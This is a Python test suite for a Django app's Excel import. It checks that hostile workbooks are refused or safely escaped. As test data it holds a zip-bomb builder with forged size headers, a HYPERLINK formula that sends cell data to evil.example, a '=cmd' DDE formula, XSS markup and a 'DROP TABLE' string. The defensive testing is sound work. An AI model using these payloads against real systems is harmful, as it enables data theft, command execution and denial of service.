"""Hostile workbooks on /data/import/ (and through `manage.py import_workbook`): each is refused
with a Vietnamese message naming the problem, the page answers 200 with the errors (never a 500),
and confirming afterwards writes nothing."""

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from common.excel import MAX_DATA_ROWS
from measurements.models import Measurement
from measurements.workbooks import HEADERS
from tests.conftest import YEAR
from tests.evidence.conftest import EXCEL_97, EXE
from tests.hostile.conftest import escaped_not_raw, foreign_indicator, lock_year, page
from tests.hostile.workbook_bombs import forge_declared_size
from tests.measurements.test_imports import ROW_OF, exported, filled

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_XML = "xl/worksheets/sheet1.xml"
LIMIT = 16 * 1024 * 1024


def upload_then_confirm(client, content: bytes, name: str = "so-lieu.xlsx") -> str:
    """Upload a workbook, then try to confirm it as a person clicking on would; the upload page."""
    response = client.post(
        reverse("measurements:import"), {"file": SimpleUploadedFile(name, content, XLSX)}
    )
    assert response.status_code == 200
    assert client.post(reverse("measurements:import_confirm")).status_code == 302
    return page(response)


def workbook(*rows: list, sheet: str = "Số liệu", headers: tuple[str, ...] = HEADERS) -> bytes:
    """A workbook built from scratch: one sheet, a header row, then the rows."""
    book = Workbook()
    book.active.title = sheet
    book.active.append(list(headers))
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def city_row(code: str = "1.1.2", **cells: object) -> list:
    values = dict.fromkeys(HEADERS)
    values.update({"Mã đơn vị": "HP", "Năm": YEAR, "Mã chỉ báo": code, **cells})
    return [values[name] for name in HEADERS]


def zip_bomb(world, declared_size: int | None = None) -> bytes:
    """A real exported workbook whose sheet inflates beyond the 16 MB limit, about 60 kB on disk.
    With `declared_size`, the archive lies: its headers claim that many bytes."""
    source = zipfile.ZipFile(io.BytesIO(exported(world)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != SHEET_XML:
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open(SHEET_XML, "w") as member:
            member.write(source.read(SHEET_XML)[: -len(b"</worksheet>")])
            for _ in range(LIMIT // (1024 * 1024) + 1):
                member.write(b" " * 1024 * 1024)
    data = buffer.getvalue()
    assert len(data) < 200_000
    return data if declared_size is None else forge_declared_size(data, SHEET_XML, declared_size)


def with_sheet_xml(data: bytes, old: bytes, new: bytes) -> bytes:
    """The workbook with a piece of its sheet's XML replaced (no spreadsheet program writes it)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == SHEET_XML:
                assert old in content
                content = content.replace(old, new)
            archive.writestr(info, content)
    return buffer.getvalue()


# --- Files that are not (whole) workbooks ------------------------------------------------------


def test_a_file_that_is_not_a_workbook_is_refused(client_for, world, unchanged):
    with unchanged():
        html = upload_then_confirm(client_for("division"), EXE, "so-lieu.xlsx")
    assert "Tệp không phải là tệp Excel .xlsx hợp lệ." in html


def test_a_truncated_workbook_is_refused_as_damaged(client_for, world, unchanged):
    data = exported(world)
    with unchanged():
        html = upload_then_confirm(client_for("division"), data[: len(data) // 2])
    assert "Tệp Excel bị hỏng hoặc tải lên chưa trọn vẹn" in html


def test_a_corrupt_member_inside_a_valid_zip_is_refused_as_damaged(client_for, world, unchanged):
    source = zipfile.ZipFile(io.BytesIO(exported(world)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            archive.writestr(info, b"<worksheet><row" if info.filename == SHEET_XML else content)
    with unchanged():
        html = upload_then_confirm(client_for("division"), buffer.getvalue())
    assert "Tệp Excel bị hỏng" in html


def test_an_old_xls_workbook_is_refused_with_the_way_out(client_for, world, unchanged):
    with unchanged():
        html = upload_then_confirm(client_for("division"), EXCEL_97, "so-lieu.xls")
    assert "hãy lưu lại thành .xlsx" in html


def test_a_zip_bomb_disguised_as_xlsx_is_refused_before_it_is_inflated(
    client_for, world, unchanged
):
    with unchanged():
        html = upload_then_confirm(client_for("division"), zip_bomb(world))
    assert "Tệp quá lớn: khi giải nén vượt quá 16 MB;" in html


def test_a_zip_bomb_that_lies_about_its_size_is_refused_as_damaged(client_for, world, unchanged):
    with unchanged():
        html = upload_then_confirm(client_for("division"), zip_bomb(world, declared_size=4096))
    assert "Tệp Excel bị hỏng" in html


def test_the_command_refuses_a_zip_bomb_too(world, personas, unchanged, tmp_path: Path):
    path = tmp_path / "so-lieu.xlsx"
    path.write_bytes(zip_bomb(world))
    with unchanged(), pytest.raises(CommandError, match="khi giải nén vượt quá 16 MB"):
        call_command("import_workbook", str(path), "--user", "vanphong")


def test_the_command_refuses_a_corrupt_file(world, personas, unchanged, tmp_path: Path):
    path = tmp_path / "so-lieu.xlsx"
    path.write_bytes(b"PK\x03\x04 truncated")
    with unchanged(), pytest.raises(CommandError, match="Tệp Excel bị hỏng"):
        call_command("import_workbook", str(path), "--user", "vanphong")


def test_a_workbook_above_5_mb_is_refused_by_the_form(client_for, world, unchanged):
    with unchanged():
        html = upload_then_confirm(client_for("division"), b"PK" + b"\x00" * (5 * 1024 * 1024))
    assert "lớn hơn 5 MB" in html


def test_too_many_rows_are_refused(client_for, world, unchanged):
    rows = [city_row(note=str(n)) for n in range(MAX_DATA_ROWS + 1)]
    with unchanged():
        html = upload_then_confirm(client_for("division"), workbook(*rows))
    assert "hãy chia thành nhiều tệp" in html


# --- Sheets and headers ------------------------------------------------------------------------


def test_a_workbook_without_the_values_sheet_names_the_sheets_it_has(client_for, world, unchanged):
    with unchanged():
        html = upload_then_confirm(client_for("division"), workbook(sheet="Sheet1"))
    assert "Không có trang tính «Số liệu» trong tệp (tệp có: «Sheet1»)." in html


def test_a_missing_column_is_named(client_for, world, unchanged):
    headers = tuple(name for name in HEADERS if name != "Mẫu số")
    with unchanged():
        html = upload_then_confirm(client_for("division"), workbook(headers=headers))
    assert "Thiếu cột «Mẫu số» ở dòng tiêu đề." in html


def test_a_duplicated_column_is_refused(client_for, world, unchanged):
    headers = (*HEADERS, "Tử số")
    row = city_row(**{"Tử số": 56, "Mẫu số": 80})
    content = workbook([*row, 90], headers=headers)
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Cột «Tử số» xuất hiện hai lần." in html


# --- Cells -------------------------------------------------------------------------------------


def test_a_formula_in_a_cell_is_refused(client_for, world, unchanged):
    content = filled(exported(world), {"1.1.2": {"Tử số": "=80*0.7", "Mẫu số": 80}})
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert f"Dòng {ROW_OF['1.1.2']}: ô «Tử số» chứa công thức; hãy nhập giá trị." in html


def test_an_external_link_formula_in_the_note_is_refused(client_for, world, unchanged):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    content = filled(exported(world), {"1.1.2": {"Tử số": 56, "Mẫu số": 80, "Ghi chú": formula}})
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "ô «Ghi chú» chứa công thức" in html


def test_an_error_cell_is_refused(client_for, world, unchanged):
    content = filled(exported(world), {"1.1.2": {"Tử số": "#DIV/0!", "Mẫu số": 80}})
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "ô «Tử số» báo lỗi #DIV/0!" in html


@pytest.mark.parametrize("text", ["NaN", "Infinity", "-inf", "1e309", "1_000", "0x10"])
def test_numbers_that_are_not_figures_are_refused(client_for, world, unchanged, text):
    content = workbook(city_row("1.1.2", **{"Giá trị": text}))
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert f"Giá trị: «{text}» không phải là số." in html


def test_an_infinite_number_cell_is_refused(client_for, world, unchanged):
    content = workbook(city_row("1.1.2", **{"Giá trị": 75}))
    content = with_sheet_xml(content, b"<v>75</v>", b"<v>1e309</v>")
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Dòng 2, chỉ báo 1.1.2: Giá trị: «inf» không phải là số." in html


def test_a_not_a_number_cell_is_refused(client_for, world, unchanged):
    content = workbook(city_row("1.1.2", **{"Giá trị": 75}))
    content = with_sheet_xml(content, b"<v>75</v>", b"<v>NaN</v>")
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Tệp Excel bị hỏng" in html


def test_an_absurd_number_is_refused(client_for, world, unchanged):
    content = workbook(city_row("1.1.2", **{"Tử số": 10**30}))
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Dòng 2, chỉ báo 1.1.2: Tử số: số quá lớn." in html


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ({"Tử số": -5, "Mẫu số": 80}, "Tử số"),
        ({"Giá trị": "-12,5"}, "Giá trị"),
    ],
)
def test_a_negative_number_is_refused(client_for, world, unchanged, cells, message):
    content = workbook(city_row("1.1.2", **cells))
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Dòng 2, chỉ báo 1.1.2:" in html
    assert "âm" in html


def test_a_note_beyond_4000_characters_is_refused(client_for, world, unchanged):
    cells = {"Tử số": 56, "Mẫu số": 80, "Ghi chú": "x" * 4001}
    with unchanged():
        html = upload_then_confirm(
            client_for("division"), filled(exported(world), {"1.1.2": cells})
        )
    assert "Ghi chú dài 4.001 ký tự, quá giới hạn 4.000 ký tự." in html


def test_a_year_that_is_not_a_number_is_refused(client_for, world, unchanged):
    content = workbook(city_row(**{"Năm": "2022; DROP TABLE"}))
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Năm: «2022; DROP TABLE» không phải là số." in html


# --- Rows that point where they must not -------------------------------------------------------


def test_another_districts_row_is_refused(client_for, world, unchanged):
    content = filled(exported(world, world.district_b), {"2.1.3": {"Giá trị": "0,01"}})
    with unchanged():
        html = upload_then_confirm(client_for("district_a"), content)
    assert "Bạn không được nhập số liệu chỉ báo 2.1.3 của Đơn vị HP-B." in html


def test_a_locked_year_is_refused(client_for, world, unchanged):
    lock_year()
    content = filled(exported(world), {"1.1.2": {"Tử số": 56, "Mẫu số": 80}})
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert f"Năm đánh giá {YEAR} đã khóa: không nhận thay đổi nào." in html


def test_a_year_never_opened_is_refused(client_for, world, unchanged):
    content = workbook(city_row(**{"Năm": 2031, "Giá trị": 75}))
    with unchanged():
        html = upload_then_confirm(client_for("division"), content)
    assert "Năm 2031 chưa mở để nhập số liệu." in html


def test_an_indicator_of_another_criteria_set_is_refused(client_for, world, unchanged):
    foreign_indicator()
    content = workbook(city_row("9.1.1", **{"Giá trị": 75}))
    with unchanged():
        html = upload_then_confirm(client_for("standing_office"), content)
    assert "Dòng 2, chỉ báo 9.1.1: Không có chỉ báo này trong bộ tiêu chí." in html


# --- Markup is data, never markup --------------------------------------------------------------

SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'


def test_markup_in_a_note_is_stored_as_typed_and_shown_escaped(client_for, world):
    client = client_for("division")
    cells = {"Tử số": 56, "Mẫu số": 80, "Ghi chú": SCRIPT}
    response = client.post(
        reverse("measurements:import"),
        {"file": SimpleUploadedFile("a.xlsx", filled(exported(world), {"1.1.2": cells}), XLSX)},
    )
    assert escaped_not_raw(page(response), SCRIPT)
    client.post(reverse("measurements:import_confirm"))
    assert Measurement.objects.get().note == SCRIPT
    review = client_for("standing_office").get(reverse("measurements:review"))
    assert escaped_not_raw(page(review), SCRIPT)


def test_a_formula_typed_as_text_is_exported_as_text(client_for, world):
    formula = "=cmd|' /C calc'!A0"
    Measurement.objects.create(
        indicator=world.indicator("1.1.2"), unit=world.city, year=YEAR, note=formula
    )
    response = client_for("standing_office").get(  # every row: ROW_OF holds
        reverse("measurements:workbook_export", args=[YEAR, "HP"])
    )
    note_column = HEADERS.index("Ghi chú") + 1
    cell = load_workbook(io.BytesIO(response.content))["Số liệu"].cell(ROW_OF["1.1.2"], note_column)
    assert (cell.value, cell.data_type) == (formula, "s")


# --- The criteria-set workbook (/criteria/sets/import/) ----------------------------------------


def upload_criteria_set(client, content: bytes) -> str:
    response = client.post(
        reverse("criteria:set_import"), {"file": SimpleUploadedFile("bo.xlsx", content, XLSX)}
    )
    assert response.status_code == 200
    assert client.post(reverse("criteria:set_import_confirm")).status_code == 302
    return page(response)


def test_a_criteria_set_import_refuses_a_file_that_is_not_a_workbook(client_for, world, unchanged):
    with unchanged():
        html = upload_criteria_set(client_for("standing_office"), EXE)
    assert "Tệp không phải là tệp Excel .xlsx hợp lệ." in html


def test_a_criteria_set_import_refuses_a_zip_bomb(client_for, world, unchanged):
    with unchanged():
        html = upload_criteria_set(client_for("standing_office"), zip_bomb(world))
    assert "Tệp quá lớn: khi giải nén vượt quá 16 MB;" in html
